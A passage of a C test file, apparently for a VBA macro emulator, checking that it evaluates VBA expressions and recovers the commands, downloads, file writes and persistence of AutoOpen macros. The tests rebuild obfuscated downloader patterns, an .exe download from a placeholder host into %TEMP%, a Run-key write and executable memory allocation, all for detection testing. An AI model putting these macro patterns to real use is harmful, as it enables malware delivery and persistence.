/* SPDX-License-Identifier: Apache-2.0 */
/* Macros by hand: values cite [MS-VBAL]; the families of downloaders are rebuilt from their
 * shape, with harmless words. U+27C2 in a wanted text is a hole. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <cmocka.h>

#include "base/buf.h"
#include "tests/table.h"
#include "unmask/effect_rows.h"

#define HOLE "\xe2\x9f\x82"

static struct tally *run(slice source)
{
    struct tally *t = tally_unmasked("vba", NULL, source);
    tally_check(t);
    return t;
}

/* --- expressions: what Shell is given */

static const struct {
    const char *name, *expression, *want;
} values[] = {
    /* 3.3: literals */
    { "3.3.4 doubled quotes", "\"a\"\"b\"", "a\"b" },
    { "3.3.2 hexadecimal Integer is signed", "&HFFFF", "-1" },
    { "3.3.2 hexadecimal Long by suffix", "&HFFFF&", "65535" },
    { "3.3.2 hexadecimal beyond 16 bits", "&H10000", "65536" },
    { "3.3.2 octal", "&O17", "15" },
    { "3.3.2 exponent", "1E3", "1000" },
    { "3.3.3 weekday of a date", "Weekday(#4/20/1889#)", "7" },
    /* 5.6.9: operators */
    { "5.6.9.3.2 plus joins texts", "\"1\" + \"2\"", "12" },
    { "5.6.9.3.2 plus adds a text to a number", "\"1\" + 2", "3" },
    { "5.6.9.3.2 Empty plus text", "u + \"x\" + u", "x" },
    { "5.6.9.3.2 Empty plus Empty is a number", "u + v", "0" },
    { "5.6.9.4 ampersand makes texts", "1 & 2", "12" },
    { "5.6.9.4 a Boolean as text", "True & \"\"", "True" },
    { "5.6.9.3.3 minus of texts", "\"5\" - \"2\"", "3" },
    { "5.6.9.3.5 division is Double", "7 / 2", "3.5" },
    { "5.6.9.3.6 whole division rounds first", "7.5 \\ 2", "4" },
    { "5.6.9.3.6 Mod keeps the sign of the left", "-7 Mod 3", "-1" },
    { "5.6.9.3.7 power goes before minus", "-2 ^ 2", "-4" },
    { "5.6.9.3.7 power of a negative", "2 ^ -1", "0.5" },
    { "5.6.9.3.7 power without blanks", "2^3 & 2^(3) & 2^ 3", "888" },
    { "3.3.2 a power or a LongLong", "\"a\" & 2^-1", "a" HOLE },
    { "3.3.2 a LongLong", "2^ * 3", "6" },
    { "3.3.2 hexadecimal LongLong by suffix", "&HFFFFFFFF^ * 1", "4294967295" },
    { "5.6.9.3.7 power of a power from the left", "2 ^ 3 ^ 2", "64" },
    { "5.6.9.1 ampersand after plus", "1 + 1 & 1 + 1", "22" },
    { "5.6.9.3 Variant Integer widens", "w + 1", "32768" },
    { "5.6.9.3 Variant Long widens to Double", "w * 70000 * 70000", "160558300000000" },
    { "5.6.9.5 text comparison is binary", "(\"a\" < \"B\")", "False" },
    { "5.6.9.5 a number is less than a text, of Variants", "(w < t)", "True" },
    { "5.6.9.5 Empty equals the empty text", "(u = \"\")", "True" },
    { "5.6.9.5 Empty equals zero", "(u = 0)", "True" },
    { "5.6.9.7 Like", "(\"aBc1\" Like \"a[A-Z]?#\")", "True" },
    { "5.6.9.8 Xor", "65 Xor 3", "66" },
    { "5.6.9.8 Not", "Not 5", "-6" },
    { "5.6.9.8 Not of a comparison", "Not (1 > 2)", "True" },
    { "5.6.9.8 Imp", "(True Imp False)", "False" },
    /* 5.5.1.2: coercions */
    { "5.5.1.2.1 rounding to even", "CInt(2.5) & CInt(3.5)", "24" },
    { "5.5.1.2.4 fifteen digits", "1 / 3", "0.333333333333333" },
    { "5.5.1.2.4 large Double", "10 ^ 15", "1E+15" },
    { "5.5.1.2.4 Single has seven digits", "CSng(1) / CSng(3)", "0.3333333" },
    { "5.5.1.2.4 Currency", "CCur(\"1.50\")", "1.5" },
    { "5.5.1.2.4 a text with blanks is a number", "\" 7 \" * 2", "14" },
    { "5.5.1.2.4 hexadecimal text is signed as an Integer", "CLng(\"&HFFFF\")", "-1" },
    { "5.5.1.2.4 hexadecimal text of a Long", "CLng(\"&HFFFF&\")", "65535" },
    { "5.5.1.2.4 octal text", "CLng(\"&177777\") & CLng(\"&O17\")", "-115" },
    { "5.5.1.2.4 hexadecimal text", "\"&H10\" * 1", "16" },
    { "CLng of a text", "CLng(\"65\") + 1", "66" },
    /* 6.1.2.11: texts */
    { "Chr with a key constant", "Chr(VBA.vbKeyS) & ChrW(wdKeyP)", "SP" },
    { "Chr of a sum of nothings", "Chr(u + 34 + u)", "\"" },
    { "suffix on a function", "Chr$(65) & Mid$(\"abc\", 2, 1)", "Ab" },
    { "Mid to the end", "Mid(\"abcdef\", 3)", "cdef" },
    { "Mid behind the end", "\"x\" & Mid(\"abc\", 9, 2)", "x" },
    { "Left and Right", "Left(Right(\"abcdef\", 4), 2)", "cd" },
    { "StrReverse", "StrReverse(\"dmc\")", "cmd" },
    { "Replace", "Replace(\"wxyzxy\", \"xy\", \"-\")", "w-z-" },
    { "Replace with a count", "Replace(\"aaa\", \"a\", \"b\", 1, 2)", "bba" },
    { "Replace from a place cuts", "Replace(\"abcabc\", \"b\", \"x\", 3)", "caxc" },
    { "Split and Join", "Join(Split(\"cXXmXXd\", \"XX\"), \"\")", "cmd" },
    { "Split takes an index", "Split(\"a,b,c\", \",\")(1)", "b" },
    { "InStr", "InStr(1, \"aBcb\", \"b\", 1) & InStr(\"abc\", \"c\")", "23" },
    { "InStrRev", "InStrRev(\"a.b.c\", \".\")", "4" },
    { "UCase LCase", "UCase(\"ab\") & LCase(\"CD\")", "ABcd" },
    { "Trim LTrim RTrim", "\"[\" & Trim(\" a \") & LTrim(\" b\") & RTrim(\"c \") & \"]\"", "[abc]" },
    { "String and Space", "String(3, \"ab\") & Space(2) & String(2, 65)", "aaa  AA" },
    { "StrComp", "StrComp(\"a\", \"B\") & StrComp(\"a\", \"A\", 1)", "10" },
    { "StrConv proper", "StrConv(\"ab cD\", vbProperCase)", "Ab Cd" },
    { "StrConv there and back", "StrConv(StrConv(\"abc\", vbFromUnicode), vbUnicode)", "abc" },
    { "Asc AscW", "Asc(\"A\") & AscW(ChrW(&H2014))", "658212" },
    { "Hex Oct", "Hex(255) & Oct(8) & Hex(-1)", "FF10FFFF" },
    { "Val stops at a letter", "Val(\" 1 2.5xyz\")", "12.5" },
    { "Val of hexadecimal", "Val(\"&H41\")", "65" },
    { "Str leaves room for a sign", "Str(5) & Str(-5)", " 5-5" },
    { "Format with zeros", "Format(7, \"000\")", "007" },
    { "Format with groups", "Format(1234567.5, \"#,##0\") & Format(-0.125, \"0.00\") & Format(1.5, \"0.0##\")", "1,234,568-0.131.5" },
    { "Filter", "Join(Filter(Array(\"ab\", \"cd\", \"ae\"), \"a\"), \"\")", "abae" },
    /* 6.1.2.3, 6.1.2.10: numbers */
    { "Int and Fix", "Int(-1.5) & Fix(-1.5)", "-2-1" },
    { "Sgn Abs Sqr", "Sgn(-3) & Abs(-3) & Sqr(9)", "-133" },
    { "Round to even", "Round(2.5) & Round(2.675, 2)", "22.68" },
    { "RGB", "RGB(1, 2, 3)", "197121" },
    { "IIf Choose Switch", "IIf(1 > 2, \"a\", \"b\") & Choose(2, \"c\", \"d\") & Switch(False, 1, True, 2)", "bd2" },
    { "bounds", "UBound(Array(1, 2, 3)) & LBound(Array(1))", "20" },
    { "VarType TypeName", "VarType(u) & TypeName(\"\") & VarType(1.5)", "0String5" },
    { "IsNumeric of many digits", "IsNumeric(String(99, \"1\")) & IsNumeric(\"12,345\")", "TrueTrue" },
    { "odd groups", "\"n\" & IsNumeric(\"28,46628,4\")", "n" HOLE },
    { "IsNumeric", "IsNumeric(\"1e3\") & IsNumeric(\"x\")", "TrueFalse" },
    { "names of the library", "VBA.Strings.Mid(\"abc\", 2, 1) & Interaction.IIf(True, 1, 2)", "b1" },
    { "an enumeration with gaps", "first & second & third", "034" },
    { "a constant made of constants", "whole", "ab" },
    /* what is not known */
    { "a random number", "\"a\" & Rnd & \"b\"", "a" HOLE "b" },
    { "the clock", "\"a\" & Now", "a" HOLE },
    { "part of a known beginning", "Left(\"abc\" & Rnd, 2)", "ab" },
    { "part that reaches into a hole", "Left(\"abc\" & Rnd, 9)", "abc" HOLE },
    { "length of a hole", "\"n\" & Len(\"abc\" & Rnd)", "n" HOLE },
    { "environment", "Environ(\"temp\") & \"\\x\"", "%TEMP%\\x" },
    { "characters of a symbol are not known", "Mid(Environ(\"temp\"), 1, 3)", HOLE },
    { "length of a symbol is not known", "\"n\" & Len(Environ(\"temp\"))", "n" HOLE },
    { "a date as text", "\"d\" & DateSerial(2020, 1, 2)", "d" HOLE },
    { "a constant of a library that is not listed", "\"n\" & xlSomethingElse", "n" HOLE },
    { "reading behind the end of a Collection", "\"n\" & c.Count", "n0" },
};

static void expressions(void **state)
{
    (void)state;
    struct table t = { 0 };
    TABLE_EACH (&t, row, values) {
        struct buf b = buf_new(4096);
        buf_format(&b, "Enum gaps\r\nfirst\r\nsecond = 3\r\nthird\r\nEnd Enum\r\nConst half = \"a\", whole = half & \"b\"\r\n"
                       "Sub AutoOpen()\r\nDim c As New Collection\r\nw = 32767: t = \"x\"\r\nShell %s\r\nEnd Sub\r\n", row->expression);
        struct tally *r = run(buf_slice(&b));
        table_slice(&t, row->name, tally_argument(tally_effect(r, EFFECT_RUN, 0), "command"), row->want);
        tally_drop(&r);
        buf_drop(&b);
    }
}

/* --- programs */

#define SUB "Sub AutoOpen()\r\n"
#define END "\r\nEnd Sub\r\n"

static const struct {
    const char *name, *source;
    enum effect_kind kind;
    const char *argument, *want;
    bool known;
} programs[] = {
    /* 5.4: statements */
    { "For Next", SUB "For i = 1 To 3: s = s & i: Next i\r\nShell s" END, EFFECT_RUN, "command", "123", true },
    { "For with a step down", SUB "For i = 3 To 1 Step -1: s = s & i: Next\r\nShell s" END, EFFECT_RUN, "command", "321", true },
    { "nested Next", SUB "For i = 1 To 2: For j = 1 To 2: s = s & i & j: Next j, i\r\nShell s" END, EFFECT_RUN, "command", "11122122", true },
    { "For Each over an array", SUB "For Each x In Array(\"c\", \"m\", \"d\"): s = s & x: Next\r\nShell s" END, EFFECT_RUN, "command", "cmd", true },
    { "Do While, Exit Do", SUB "Do While True: n = n + 1: If n > 4 Then Exit Do\r\nLoop\r\nShell n" END, EFFECT_RUN, "command", "5", true },
    { "Do Loop Until", SUB "Do: n = n + 1: Loop Until n = 3\r\nShell n" END, EFFECT_RUN, "command", "3", true },
    { "While Wend", SUB "While n < 2: n = n + 1: Wend\r\nShell n" END, EFFECT_RUN, "command", "2", true },
    { "Select Case", SUB "Select Case 7\r\nCase 1, 2\r\ns = \"a\"\r\nCase 5 To 8\r\ns = \"b\"\r\nCase Else\r\ns = \"c\"\r\nEnd Select\r\nShell s" END, EFFECT_RUN, "command", "b", true },
    { "Case Is", SUB "Select Case 7\r\nCase Is > 3: s = \"a\"\r\nEnd Select\r\nShell s" END, EFFECT_RUN, "command", "a", true },
    { "ElseIf", SUB "If 1 > 2 Then\r\ns = 1\r\nElseIf 2 > 1 Then\r\ns = 2\r\nElse\r\ns = 3\r\nEnd If\r\nShell s" END, EFFECT_RUN, "command", "2", true },
    { "If in one line", SUB "If False Then s = 1 Else s = 2\r\nShell s" END, EFFECT_RUN, "command", "2", true },
    { "GoTo and line numbers", SUB "GoTo 20\r\n10 Shell \"a\"\r\nExit Sub\r\n20 GoTo 10" END, EFFECT_RUN, "command", "a", true },
    { "GoSub", SUB "GoSub part\r\nShell s\r\nExit Sub\r\npart:\r\ns = \"x\"\r\nReturn" END, EFFECT_RUN, "command", "x", true },
    { "With", SUB "With CreateObject(\"WScript.Shell\")\r\n.Run \"a\"\r\nEnd With" END, EFFECT_RUN, "command", "a", true },
    { "Mid statement", SUB "s = \"abcd\": Mid(s, 2, 2) = \"XY\"\r\nShell s" END, EFFECT_RUN, "command", "aXYd", true },
    { "ReDim Preserve", SUB "Dim a()\r\nReDim a(1): a(0) = \"c\": a(1) = \"m\"\r\nReDim Preserve a(2): a(2) = \"d\"\r\nShell Join(a, \"\")" END, EFFECT_RUN, "command", "cmd", true },
    { "arrays are values", SUB "a = Array(1): b = a: b(0) = 2: Shell a(0) & b(0)" END, EFFECT_RUN, "command", "12", true },
    { "two dimensions", SUB "Dim a(1 To 2, 3) As String\r\na(2, 3) = \"x\": Shell a(2, 3) & UBound(a, 2)" END, EFFECT_RUN, "command", "x3", true },
    { "a record", "Type pair\r\na As String\r\nn As Long\r\nEnd Type\r\n" SUB "Dim p As pair, q As pair\r\np.a = \"x\": q = p: q.a = \"y\": Shell p.a & q.a & p.n" END, EFFECT_RUN, "command", "xy0", true },
    { "a typed variable coerces", SUB "Dim n As Integer\r\nn = \"2.5\": Shell n & \"\"" END, EFFECT_RUN, "command", "2", true },
    { "Static keeps", "Function f()\r\nStatic n\r\nn = n + 1: f = n\r\nEnd Function\r\n" SUB "x = f: x = f: Shell f" END, EFFECT_RUN, "command", "3", true },
    { "ByRef and ByVal", "Sub a(x, ByVal y)\r\nx = x & 1: y = y & 1\r\nEnd Sub\r\n" SUB "p = \"p\": q = \"q\": a p, q: Shell p & q" END, EFFECT_RUN, "command", "p1q", true },
    { "a parenthesis passes a value", "Sub a(x)\r\nx = 2\r\nEnd Sub\r\n" SUB "p = 1: a (p): Shell p & \"\"" END, EFFECT_RUN, "command", "1", true },
    { "Optional, ParamArray, named arguments", "Function f(Optional a = \"x\", Optional b = \"y\", Optional c)\r\nf = a & b & IsMissing(c)\r\nEnd Function\r\n"
      "Function g(ParamArray p())\r\ng = UBound(p)\r\nEnd Function\r\n" SUB "Shell f(b:=\"z\") & g(1, 2, 3)" END, EFFECT_RUN, "command", "xzTrue2", true },
    { "a function that calls itself", "Function f(n)\r\nIf n > 0 Then f = n & f(n - 1)\r\nEnd Function\r\n" SUB "Shell f(3)" END, EFFECT_RUN, "command", "321", true },
    { "Property Get and Let", "Dim kept\r\nProperty Let P(v)\r\nkept = v & \"!\"\r\nEnd Property\r\nProperty Get P()\r\nP = kept\r\nEnd Property\r\n" SUB "P = \"a\": Shell P" END, EFFECT_RUN, "command", "a!", true },
    { "Application.Run by a computed name", "Sub inner(a)\r\nShell a\r\nEnd Sub\r\n" SUB "Application.Run \"in\" & \"ner\", \"x\"" END, EFFECT_RUN, "command", "x", true },
    { "CallByName", SUB "Set o = CreateObject(\"WScript.Shell\"): CallByName o, \"Run\", 1, \"x\", 0" END, EFFECT_RUN, "command", "x", true },
    { "conditional compilation", "#If VBA7 And Not Mac Then\r\nConst s = \"7\"\r\n#Else\r\nConst s = \"6\"\r\n#End If\r\n" SUB "Shell s" END, EFFECT_RUN, "command", "7", true },
    { "user functions stand before the library", "Function Chr(n)\r\nChr = \"mine\"\r\nEnd Function\r\n" SUB "Shell Chr(65)" END, EFFECT_RUN, "command", "mine", true },
    { "a Dictionary", SUB "Set d = CreateObject(\"Scripting.Dictionary\"): d.Add \"k\", \"v\": d(\"l\") = \"w\": Shell d(\"k\") & d(\"l\") & d.Count" END, EFFECT_RUN, "command", "vw2", true },
    { "RegExp", SUB "With CreateObject(\"VBScript.RegExp\")\r\n.Pattern = \"[0-9]\": .Global = True\r\nShell .Replace(\"a1b2\", \"\")\r\nEnd With" END, EFFECT_RUN, "command", "ab", true },
    { "# of Like is a digit, not itself", SUB "Shell (\"#\" Like \"*#*\") & (\"a1\" Like \"*#*\") & (\"#\" Like \"[#]\")" END, EFFECT_RUN, "command", "FalseTrueTrue", true },
    { "Array begins at Option Base", "Option Base 1\r\n" SUB "k = Array(99, 109, 100)\r\nFor i = 1 To 3: s = s & Chr(k(i)): Next\r\nShell s" END, EFFECT_RUN, "command", "cmd", true },
    { "VBA.Array begins at 0", "Option Base 1\r\n" SUB "k = VBA.Array(99, 109, 100)\r\nFor i = 0 To 2: s = s & Chr(k(i)): Next\r\nShell s" END, EFFECT_RUN, "command", "cmd", true },
    { "places behind the point", SUB "Shell 1 / 30 & \"|\" & 1 / 3 & \"|\" & -0.0999999999999996 & \"|\" & 0.05" END, EFFECT_RUN, "command", "3.33333333333333E-02|0.333333333333333|-9.99999999999996E-02|0.05", true },
    { "base64 by MSXML", SUB "Set d = CreateObject(\"MSXML2.DOMDocument\"): Set n = d.createElement(\"b64\"): n.DataType = \"bin.base64\": n.Text = \"ZWNobyBoaQ==\"\r\n"
      "Shell StrConv(n.nodeTypedValue, vbUnicode)" END, EFFECT_RUN, "command", "echo hi", true },
    { "Xor of bytes", SUB "k = Array(99, 108, 100)\r\nFor i = 0 To 2: s = s & Chr(k(i) Xor IIf(i = 1, 1, 0)): Next\r\nShell s" END, EFFECT_RUN, "command", "cmd", true },
    { "constants of Excel's library in Excel", "Attribute VB_Name = \"ThisWorkbook\"\r\n" SUB "Shell LTrim(Str(xlCenterPoint)) & xlUp & XLMONTHS & rgbRed" END, EFFECT_RUN, "command", "5-41621255", true },
    { "and elsewhere not known", SUB "Shell \"n\" & xlUp" END, EFFECT_RUN, "command", "n" HOLE, false },
    { "constants of Office's library", SUB "Shell msoEncodingUTF8 & msoSyncCompareAndMerge & msoTextBox" END, EFFECT_RUN, "command", "65001017", true },
    { "5.2.3.1.3 a text of fixed length is padded", SUB "Dim s As String * 5\r\ns = \"ab\": Shell s & \"|\" & Len(s)" END, EFFECT_RUN, "command", "ab   |5", true },
    { "5.2.3.1.3 and cut", SUB "Dim s As String * 3\r\ns = \"abcdef\": Shell s & \"|\"" END, EFFECT_RUN, "command", "abc|", true },
    { "5.2.3.1.3 of a length by a constant, in a module", "Const n = 2\r\nDim s As String * n\r\n" SUB "s = \"cmd\": Shell s" END, EFFECT_RUN, "command", "cm", true },
    { "5.2.3.1.3 in an array and a record", "Type row\r\nk As String * 2\r\nEnd Type\r\n" SUB "Dim a(1) As String * 1, r As row\r\na(1) = \"xy\": r.k = \"c\": Shell a(1) & r.k & \"|\"" END, EFFECT_RUN, "command", "xc |", true },
    { "5.2.3.1.3 at first it is made of Chr(0)", SUB "Dim s As String * 3\r\nShell Len(s) & Asc(s)" END, EFFECT_RUN, "command", "30", true },
    { "5.3.1.11 by reference it is one of its own", "Sub f(t As String)\r\nt = t & \"cdef\": Shell t\r\nEnd Sub\r\n" SUB "Dim s As String * 2\r\ns = \"ab\": f s" END, EFFECT_RUN, "command", "abcdef", true },
    { "5.3.1.11 that comes back when the procedure ends", "Sub f(t As String)\r\nt = \"abcdef\"\r\nEnd Sub\r\n" SUB "Dim s As String * 2\r\nf s: Shell \"n\" & s" END, EFFECT_RUN, "command", "n" HOLE, false },
    { "5.3.1.11 by value it stays", "Sub f(ByVal t As String)\r\nt = \"abcdef\"\r\nEnd Sub\r\n" SUB "Dim s As String * 2\r\ns = \"x\": f s: Shell s & \"|\"" END, EFFECT_RUN, "command", "x |", true },
    { "5.2.3.1.3 a length that is not known", SUB "Dim s As String * foo\r\ns = \"x\": Shell \"n\" & s" END, EFFECT_RUN, "command", "n" HOLE, false },
    { "5.2.3.1.3 a value with a hole", SUB "Dim s As String * 8\r\ns = \"n\" & Rnd: Shell \"n\" & s" END, EFFECT_RUN, "command", "n" HOLE, false },
    { "5.4.3.6 LSet keeps the length", SUB "s = \"12345\": LSet s = \"ab\": t = \"12\": LSet t = \"abc\": Shell s & \"|\" & t" END, EFFECT_RUN, "command", "ab   |ab", true },
    { "5.4.3.7 RSet as well", SUB "s = \"12345\": RSet s = \"ab\": Shell \"|\" & s" END, EFFECT_RUN, "command", "|   ab", true },
    { "5.6.13.1 arguments of a function by name", SUB "Shell Replace(Find:=\"x\", Replace:=\"m\", Expression:=\"cxd\")" END, EFFECT_RUN, "command", "cmd", true },
    { "5.6.13.1 by place and by name", SUB "Shell Mid(\"xcmdx\", Length:=3, Start:=2) & Split(Delimiter:=\"|\", Expression:=\"a|b\")(1)" END, EFFECT_RUN, "command", "cmdb", true },
    { "5.6.13.1 of Shell itself", SUB "Shell WindowStyle:=0, PathName:=\"cmd\"" END, EFFECT_RUN, "command", "cmd", true },
    { "a name that the function does not have", SUB "Shell \"n\" & Mid(String:=\"abc\", From:=1)" END, EFFECT_RUN, "command", "n" HOLE, false },
    { "of members", SUB "CreateObject(\"WScript.Shell\").Run WindowStyle:=0, Command:=\"cmd\"" END, EFFECT_RUN, "command", "cmd", true },
    { "of a file that is saved", SUB "ActiveDocument.SaveAs FileFormat:=2, FileName:=\"C:\\a.txt\"" END, EFFECT_WRITE, "path", "C:\\a.txt", true },
    { "of Application.Run", "Sub inner(a, b)\r\nShell a & b\r\nEnd Sub\r\n" SUB "Application.Run MacroName:=\"inner\", varg2:=\"d\", varg1:=\"cm\"" END, EFFECT_RUN, "command", "cmd", true },
    { "of a Collection and a Dictionary", SUB "Dim c As New Collection\r\nc.Add Key:=\"k\", Item:=\"cm\"\r\nSet d = CreateObject(\"Scripting.Dictionary\"): d.Add Item:=\"d\", Key:=\"j\"\r\nShell c(\"k\") & d(\"j\")" END, EFFECT_RUN, "command", "cmd", true },
    { "a class of a library that is named twice", SUB "Dim d As MSXML2.DOMDocument\r\nDim n As MSXML2.IXMLDOMElement\r\nSet d = New MSXML2.DOMDocument\r\nSet n = d.createElement(\"b\"): n.DataType = \"bin.base64\": n.Text = \"Y21k\"\r\nShell StrConv(n.nodeTypedValue, vbUnicode)" END, EFFECT_RUN, "command", "cmd", true },
    { "a macro that is added to another project", SUB "code = \"Sub Inner()\" & vbCrLf & \"Shell \"\"added\"\"\" & vbCrLf & \"End Sub\"\r\n"
      "Set x = CreateObject(\"Excel.Application\"): Set b = x.Workbooks.Add(\"\")\r\nb.VBProject.VBComponents.Item(\"ThisWorkbook\").CodeModule.AddFromString (code)" END, EFFECT_RUN, "command", "added", false },
    /* 5.4.4: errors */
    { "Resume Next leaves the failed assignment out", SUB "On Error Resume Next\r\ns = \"x\": s = 1 / 0: Shell s" END, EFFECT_RUN, "command", "x", true },
    { "what a failed statement did before stands", SUB "On Error Resume Next\r\nz = Array(Shell(\"a\"), CByte(900))" END, EFFECT_RUN, "command", "a", true },
    { "a handler", SUB "On Error GoTo h\r\nx = 1 / 0\r\nExit Sub\r\nh: Shell \"n\" & Err.Number" END, EFFECT_RUN, "command", "n11", true },
    { "an error climbs to the caller's handler", "Sub a()\r\nx = CInt(\"q\")\r\nEnd Sub\r\n" SUB "On Error GoTo h\r\na\r\nExit Sub\r\nh: Shell Err & \"\"" END, EFFECT_RUN, "command", "13", true },
    { "literals overflow, Variants do not", SUB "On Error GoTo h\r\nx = 32767 + 1\r\nExit Sub\r\nh: Shell Err & \"\"" END, EFFECT_RUN, "command", "6", true },
    { "without a handler the rest is only possible", SUB "x = 1 / 0\r\nShell \"a\"" END, EFFECT_RUN, "command", "a", false },
    /* unknown conditions */
    { "a condition on the clock", SUB "If Now > 1 Then Shell \"a\"" END, EFFECT_RUN, "command", "a", false },
    { "both ways agree", SUB "If Rnd > 0.5 Then s = \"a\" Else s = \"a\"\r\nShell s" END, EFFECT_RUN, "command", "a", true },
    { "both ways differ", SUB "If Rnd > 0.5 Then s = \"a\" Else s = \"b\"\r\nShell \"x\" & s" END, EFFECT_RUN, "command", "x" HOLE, false },
    { "Exit Sub on a condition", SUB "If Rnd > 0.5 Then Exit Sub\r\nShell \"a\"" END, EFFECT_RUN, "command", "a", false },
    { "a caller of it goes on for sure", "Sub a()\r\nIf Rnd > 0.5 Then Exit Sub\r\nx = 1\r\nEnd Sub\r\n" SUB "a: Shell \"a\"" END, EFFECT_RUN, "command", "a", true },
    { "a loop on a condition", SUB "s = \"a\"\r\nDo While Rnd > 0.5: s = s & \"b\": Loop\r\nShell s" END, EFFECT_RUN, "command", HOLE, false },
    { "GoTo on a condition is followed", SUB "If Rnd > 0.5 Then GoTo far\r\nExit Sub\r\nfar: Shell \"a\"" END, EFFECT_RUN, "command", "a", false },
    { "an array changed on a condition", SUB "a = Array(\"x\")\r\nIf Rnd > 0.5 Then a(0) = \"y\"\r\nShell \"c\" & a(0)" END, EFFECT_RUN, "command", "c" HOLE, false },
    { "a Dictionary changed on a condition", SUB "Set d = CreateObject(\"Scripting.Dictionary\")\r\nIf Rnd > 0.5 Then d.Add 1, 2\r\nShell \"c\" & d.Count" END, EFFECT_RUN, "command", "c" HOLE, false },
    /* the families of downloaders */
    { "A: a call among junk in Array", "Function f()\r\nOn Error Resume Next\r\nx = Array(u1, u2, Interaction.Shell((\"\" + u3 + u4 + \"cmd /c echo\") + u5, 91 - 91), u6)\r\nEnd Function\r\nSub autoopen()\r\nf" END, EFFECT_RUN, "command", "cmd /c echo", true },
    { "B: Run! with a ProgID in a variable", SUB "On Error Resume Next\r\np = \"WscRipt.sHeLl\"\r\nx = Array(a, CreateObject(\"\" + b + p).Run!((\"\" + c + \"cmd\") + d, 14 - 14), e)" END, EFFECT_RUN, "command", "cmd", true },
    { "C: a continuation before the point", SUB "x = Array(Interaction _\r\n _\r\n .Shell(\"cmd\", 0))" END, EFFECT_RUN, "command", "cmd", true },
    { "D: Replace and key constants", "Sub inner(a)\r\nCreateObject(Replace(Chr(VBA.vbKeyW) + \"QSWXscript.QSWXshell\", \"QSWXs\", Chr(VBA.vbKeyS))).Run u + Chr(VBA.vbKeyC) + a, vbHide\r\nEnd Sub\r\n" SUB "Application.Run u + \"inner\" + v, \"md\"" END, EFFECT_RUN, "command", "Cmd", true },
    { "E: reversed and cut", "Function f(s, a, b)\r\nf = Mid(StrReverse(s), a, b)\r\nEnd Function\r\n" SUB "Shell f(\"xxdmcyy\", 15657 + 3 - 15657, 3)" END, EFFECT_RUN, "command", "cmd", true },
    { "F: Left of Right", SUB "Shell Left(Right(\"junkcmd /c echojunk\", 15), 11) + CStr(Left(Right(\"zz1z\", 2), 1))" END, EFFECT_RUN, "command", "cmd /c echo1", true },
    { "G: a call with a suffix and no parentheses", "Function f()\r\nf = \"m^d\"\r\nEnd Function\r\n" SUB "Shell% KeyString(u + 67 + u) + f + CStr(Chr(u + 34))" END, EFFECT_RUN, "command", "Cm^d\"", true },
    { "H: a process by its moniker", "Function f(x)\r\nf = (x)\r\nEnd Function\r\nSub _\r\nautoopen( _\r\n)\r\nOn Error Resume Next\r\nSet s = GetObject(f(\"winmgmts:Win32\" + \"_Processstartup\"))\r\ns. _\r\nShowWindow = 422843 - 422843\r\n"
      "GetObject(f(\"winmgmts:Win32\" + \"_Process\")).Create a + \"po\" + b + \"wer\", c, s, d" END, EFFECT_RUN, "command", "power", true },
    { "I: Create# by CreateObject", SUB "Debug.Print \"a\" + (\"b\" + (\"c\"))\r\nCreateObject((\"winmg\" + \"mts:Win32_Process\")).Create# cmd & \"x\", a, b, c" END, EFFECT_RUN, "command", "x", true },
    { "K: split, join, and a loop on Create", SUB "Set p = GetObject(Join(Split(\"winmZZgmts:Win32_PrZZocess\", \"ZZ\"), \"\"))\r\nDo While p. _\r\nCreate(u & \"cmd\", u, s, u)\r\nLoop" END, EFFECT_RUN, "command", "cmd", true },
    /* other ways out */
    { "a download to a path", "Private Declare PtrSafe Function got Lib \"urlmon\" Alias \"URLDownloadToFileA\" (ByVal a As Long, ByVal u As String, ByVal p As String, ByVal r As Long, ByVal c As Long) As Long\r\n"
      SUB "got 0, \"http://\" & \"example.invalid/a\", Environ(\"TEMP\") & \"\\a.exe\", 0, 0" END, EFFECT_DOWNLOAD, "path", "%TEMP%\\a.exe", true },
    { "a request that a stream saves", SUB "Set h = CreateObject(\"MSXML2.XMLHTTP\"): h.Open \"GET\", \"http://example.invalid/b\", False: h.Send\r\nIf h.Status = 200 Then\r\nSet s = CreateObject(\"ADODB.Stream\")\r\n"
      "s.Open: s.Type = 1: s.Write h.ResponseBody: s.SaveToFile \"b.exe\", 2\r\nEnd If" END, EFFECT_DOWNLOAD, "path", "b.exe", true },
    { "its address", SUB "With CreateObject(\"WinHttp.WinHttpRequest.5.1\")\r\n.Open \"GET\", \"http://example.invalid/\" & Chr(99), False\r\n.Send\r\nEnd With" END, EFFECT_DOWNLOAD, "url", "http://example.invalid/c", true },
    { "a file by Open and Print", SUB "Open \"C:\\a.txt\" For Output As #1\r\nPrint #1, \"x\"\r\nClose #1" END, EFFECT_WRITE, "path", "C:\\a.txt", true },
    { "a script file goes on to its language", SUB "Set f = CreateObject(\"Scripting.FileSystemObject\").CreateTextFile(\"C:\\a.vbs\")\r\nf.WriteLine \"x\": f.Close" END, EFFECT_WRITE, "path", "C:\\a.vbs", true },
    { "a value of Run", SUB "CreateObject(\"WScript.Shell\").RegWrite \"HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\x\", \"y\"" END, EFFECT_PERSIST, "name", "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\x", true },
    { "ShellExecute with arguments", SUB "CreateObject(\"Shell.Application\").ShellExecute \"cmd\", \"/c x\", \"\", \"open\", 0" END, EFFECT_RUN, "command", "cmd /c x", true },
    { "Excel 4.0 without its application", SUB "ExecuteExcel4Macro \"EXEC(\"\"a\"\")\"" END, EFFECT_RUN, "command", "a", true },
    { "its value, and a library by a path", SUB "p = \"C:\\a.dll\": x = ExecuteExcel4Macro(\"CALL(\"\"\" & p & \"\"\",\"\"f\"\",\"\"J\"\")\")" END, EFFECT_LOAD, "path", "C:\\a.dll", true },
    { "a class id for the shell", SUB "GetObject(\"new:72C24DD5-D70A-438B-8A42-98424B88AFB8\").Run \"x\"" END, EFFECT_RUN, "command", "x", true },
    { "memory for code", "Declare Function va Lib \"kernel32\" Alias \"VirtualAlloc\" (ByVal a&, ByVal b&, ByVal c&, ByVal d&) As Long\r\n" SUB "x = va(0, 4096, &H3000, &H40)" END, EFFECT_LOAD, "function", "VirtualAlloc", true },
    { "a cell that was written is read back", SUB "Range(\"A1\").Value = \"x\": Shell Cells(1, 1) & Range(\"$A$1\").Value" END, EFFECT_RUN, "command", "xx", true },
    { "a variable that was added", SUB "ActiveDocument.Variables.Add \"v\", \"x\": Shell ActiveDocument.Variables(\"V\").Value" END, EFFECT_RUN, "command", "x", true },
